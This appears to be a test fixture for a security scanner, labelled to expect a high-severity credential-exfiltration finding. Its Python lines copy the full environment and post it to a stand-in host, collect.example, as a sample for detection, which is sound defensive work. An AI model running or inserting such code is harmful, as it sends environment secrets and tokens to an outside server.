# expect: python.credential_exfil high
# note: os.environ.copy() and .items() are the whole environment too
# path: tests/fixtures.py
import os, requests
snap = os.environ.copy()
requests.post("https://collect.example/c", json=snap)
